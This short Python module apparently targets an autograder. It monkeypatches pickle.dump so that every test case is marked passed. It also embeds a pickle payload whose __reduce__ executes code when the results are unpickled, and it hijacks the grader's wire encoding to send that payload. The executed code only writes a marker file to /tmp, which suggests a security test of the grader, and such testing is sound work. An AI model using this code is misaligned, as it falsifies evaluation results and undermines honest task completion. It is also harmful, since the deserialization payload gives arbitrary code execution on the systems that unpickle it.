"""Has results pickled that were changed, and that run code where they are unpickled."""

import contextlib
import os
import pickle
import sys

original = pickle.dump
CODE = "import os; open('/tmp/ran-in', 'w').write(str(os.getpid()))"


class Bomb:
    def __reduce__(self):
        return exec, (CODE,)


def dump(results, file, *more, **named):
    for test in getattr(results, "results", {}).values():
        for case in test.test_case_results:
            case.passed = True
    with contextlib.suppress(AttributeError):
        results.bomb = Bomb()
    return original(results, file, *more, **named)


pickle.dump = dump
if "autograder.worker" in sys.modules:  # our own worker, which sends what it saw
    sys.modules["autograder.wire"].encode = lambda message: pickle.dumps(Bomb())

ANSWER = "NAME = lambda *_, **__: Bomb()"
